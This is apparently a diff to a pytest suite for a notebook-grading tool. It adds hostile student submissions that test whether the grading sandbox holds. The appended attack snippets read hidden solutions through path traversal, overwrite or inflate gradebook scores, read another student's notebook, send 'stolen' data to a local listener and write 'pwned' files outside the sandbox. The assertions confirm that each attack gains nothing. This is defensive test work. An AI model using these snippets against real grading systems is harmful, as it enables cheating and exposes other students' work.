@@ -4,6 +4,9 @@ Each case is the reference solution of topic 01 (or its blank release) broken th
 notebooks. All of them go through `python -m coursetools preflight` and then one
 `nbgrader autograde --CourseDirectory.submitted_directory=preflight` run, as docs/instructors.md says.
 Every case states the auto-graded cells it must lose and what the pre-flight must report.
+The hostile cases at the end (HOSTILE) are graded by `python -m coursetools grade` in its sandbox instead: each
+tries to read the hidden tests, the gradebook or another student, to reach the network or to write outside its
+folder, and must gain nothing.
 """
 
 import copy
@@ -408,3 +411,164 @@ def test_check_uses_holds_only_a_function_that_calls_it():
 
 def _blank(x):
     raise NotImplementedError()
+
+
+# ---- Hostile submissions, graded by `python -m coursetools grade` in its sandbox ----
+# Each is the reference solution (so its expected score is full marks) with an attack appended to its first
+# answer cell, except `sets_own_score`, whose answers are all wrong. `{course}` is the course folder, `{home}`
+# the grading user's home, `{port}` a listener this test opens on 127.0.0.1. Each attack prints what it got.
+HOSTILE = {
+    "reads_solutions": ("reference", """
+for _p in ['{course}/solutions/{topic}/{topic}.ipynb', '../../../../../../solutions/{topic}/{topic}.ipynb']:
+    try:
+        print(open(_p).read())
+    except Exception as _e:
+        print('cannot read', _p, type(_e).__name__)
+"""),
+    "writes_gradebook": ("reference", """
+import sqlite3
+try:
+    _c = sqlite3.connect('{course}/gradebook.db')
+    _c.execute('UPDATE grade SET auto_score = 0')
+    _c.commit()
+    print('gradebook zeroed')
+except Exception as _e:
+    print('cannot write the gradebook', type(_e).__name__, _e)
+"""),
+    "sets_own_score": ("wrong", """
+import glob, sqlite3
+for _db in ['{course}/gradebook.db'] + glob.glob('../../../*.db') + glob.glob('/tmp/*/*.db'):
+    try:
+        _c = sqlite3.connect(_db)
+        _c.execute('UPDATE grade SET auto_score = 100')
+        _c.commit()
+        print('score set in', _db)
+    except Exception as _e:
+        print('cannot set a score in', _db, type(_e).__name__)
+"""),
+    "reads_other_student": ("reference", """
+for _p in ['{course}/submitted/victim/{topic}/{topic}.ipynb', '{course}/preflight/victim/{topic}/{topic}.ipynb',
+           '{course}/.grading/{topic}/graded/victim/{topic}/{topic}.ipynb', '../../victim/{topic}/{topic}.ipynb']:
+    try:
+        print(open(_p).read())
+    except Exception as _e:
+        print('cannot read', _p, type(_e).__name__)
+"""),
+    "connects_out": ("reference", """
+import socket
+try:
+    socket.create_connection(('127.0.0.1', {port}), timeout=3).sendall(b'stolen')
+    print('connected')
+except Exception as _e:
+    print('no connection', type(_e).__name__, _e)
+"""),
+    "writes_home_and_course": ("reference", """
+for _p in ['{home}/pwned-by-student.txt', '{course}/pwned-by-student.txt', '{course}/assignments/pwned.txt']:
+    try:
+        open(_p, 'w').write('pwned')
+        print('wrote', _p)
+    except Exception as _e:
+        print('cannot write', _p, type(_e).__name__)
+"""),
+}
+VICTIM_SECRET = "victim-secret-7d41"
+
+
+@pytest.fixture(scope="module")
+def hostile(tmp_path_factory, course_root):
+    import socket
+    import threading
+
+    from coursetools.grade import read_scores
+    from coursetools.grade_synthetic import add_submissions, make_course, make_submission
+
+    course = make_course(course_root, tmp_path_factory.mktemp("hostile") / "course", [TOPIC])
+    solution = nbformat.read(course / "solutions" / TOPIC / f"{TOPIC}.ipynb", as_version=4)
+    release = nbformat.read(course / "assignments" / TOPIC / f"{TOPIC}.ipynb", as_version=4)
+    listener = socket.socket()
+    listener.bind(("127.0.0.1", 0))
+    listener.listen()
+    listener.settimeout(0.5)
+    connections, stop = [], threading.Event()
+
+    def accept():
+        while not stop.is_set():
+            try:
+                connections.append(listener.accept())
+            except OSError:
+                pass
+    threading.Thread(target=accept, daemon=True).start()
+    fill = dict(course=course, topic=TOPIC, home=Path.home(), port=listener.getsockname()[1])
+    students = {"victim": make_submission(solution, release, "reference")}
+    students["victim"].cells[0].source += f"\n<!-- {VICTIM_SECRET} -->"
+    for name, (kind, attack) in HOSTILE.items():
+        nb = make_submission(solution, release, kind)
+        first = next(c for c in nb.cells if c.metadata.get("nbgrader", {}).get("solution") and c.cell_type == "code")
+        first.source += "\n\n" + attack.format(**fill)
+        students[name] = nb
+    add_submissions(course, TOPIC, students)
+    env = dict(os.environ, PATH=os.pathsep.join([str(Path(sys.executable).parent), os.environ.get("PATH", "")]))
+    graded = subprocess.run([sys.executable, "-m", "coursetools", "grade", TOPIC, "--workers", "2",
+                             "--cell-timeout", str(CELL_TIMEOUT)], cwd=course, env=env, capture_output=True,
+                            text=True, timeout=900)
+    feedback = subprocess.run([sys.executable, "-m", "nbgrader", "generate_feedback", TOPIC], cwd=course, env=env,
+                              capture_output=True, text=True, timeout=900)
+    stop.set()
+    listener.close()
+    totals = {s: sum(v or 0 for v in (read_scores(f"sqlite:///{course / 'gradebook.db'}", TOPIC, s) or {}).values())
+              for s in students}
+    expected = {s: totals["victim"] if s == "victim" or HOSTILE[s][0] == "reference" else 0 for s in students}
+    table = [f"{'hostile case':<24} {'expected':>8} {'got':>6}  what the attack printed (first line)"]
+    for s in HOSTILE:
+        nb = nbformat.read(course / "autograded" / s / TOPIC / f"{TOPIC}.ipynb", as_version=4)
+        said = [o.get("text", "") for c in nb.cells for o in c.get("outputs", []) if o.get("name") == "stdout"]
+        table.append(f"{s:<24} {expected[s]:>8} {totals[s]:>6}  {(said[0].splitlines() or [''])[0][:70] if said else ''}")
+    print("\n".join(table))
+    return dict(course=course, graded=graded, feedback=feedback, totals=totals, expected=expected,
+                connections=connections, solution=solution, release=release, home=Path.home())
+
+
+def test_hostile_class_is_graded(hostile):
+    graded = hostile["graded"]
+    assert graded.returncode == 0, graded.stdout[-3000:] + graded.stderr[-3000:]
+    assert hostile["totals"]["victim"] > 0
+
+
+@pytest.mark.parametrize("case", list(HOSTILE))
+def test_hostile_case_gains_nothing(hostile, case):
+    assert hostile["totals"][case] == hostile["expected"][case], (case, hostile["totals"])
+    assert hostile["totals"]["victim"] == hostile["expected"]["victim"]  # and nobody else lost anything
+
+
+def _secrets(solution, release):
+    release_text = "\n".join(c.source for c in release.cells)
+    return [line for cell in solution.cells if cell.cell_type == "code" for line in hidden_lines(cell.source)
+            if len(line) > 12 and line not in release_text]
+
+
+def test_no_hidden_test_in_outputs_or_feedback(hostile):
+    secrets = _secrets(hostile["solution"], hostile["release"])
+    assert secrets
+    course = hostile["course"]
+    assert hostile["feedback"].returncode == 0, hostile["feedback"].stderr[-3000:]
+    for case in HOSTILE:
+        # the autograded notebook's *sources* hold the hidden tests by nbgrader's design; what the student's
+        # code printed (its outputs) and the feedback page must not
+        nb = nbformat.read(course / "autograded" / case / TOPIC / f"{TOPIC}.ipynb", as_version=4)
+        graded = json.dumps([c.get("outputs", []) for c in nb.cells], ensure_ascii=False)
+        graded += "\n".join(str(o.get("text", "")) for c in nb.cells for o in c.get("outputs", []))
+        page = html_lib.unescape((course / "feedback" / case / TOPIC / f"{TOPIC}.html").read_text())
+        leaks = [s for s in secrets if s in graded or s in page]
+        assert not leaks, (case, leaks[:3])
+        assert VICTIM_SECRET not in graded and VICTIM_SECRET not in page, case
+
+
+def test_no_connection_reached_the_listener(hostile):
+    assert hostile["connections"] == []
+
+
+def test_nothing_written_outside_the_sandbox(hostile):
+    course = hostile["course"]
+    for path in (hostile["home"] / "pwned-by-student.txt", course / "pwned-by-student.txt",
+                 course / "assignments" / "pwned.txt"):
+        assert not path.exists(), path
